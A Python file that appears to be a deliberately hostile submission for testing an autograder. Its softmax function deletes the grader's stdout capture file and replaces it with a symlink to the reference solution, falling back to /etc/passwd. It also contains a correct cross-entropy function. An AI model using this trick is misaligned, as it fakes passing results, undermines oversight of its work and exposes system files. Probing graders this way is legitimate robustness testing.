"""Hostile: replaces the grader's capture file (where stdout goes) by a symlink to the reference
solution, hoping that the grader shows that file back as "the student's output"."""
import json
import os
from pathlib import Path

import numpy as np


def softmax(o):
    try:
        with open("case.json") as f:
            target = json.load(f)["paths"][0]
    except (OSError, ValueError, KeyError, IndexError):
        target = "/etc/passwd"
    for log in (Path.cwd().parent / "output.log", Path("/proc/self/fd/1")):
        try:
            real = Path(os.path.realpath(log))
            real.unlink()
            real.symlink_to(target)
            print(f"SWAPPED {real}")
        except OSError as exc:
            print(f"could not swap {log}: {type(exc).__name__}")
    return np.zeros_like(np.asarray(o, dtype=np.float64))


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
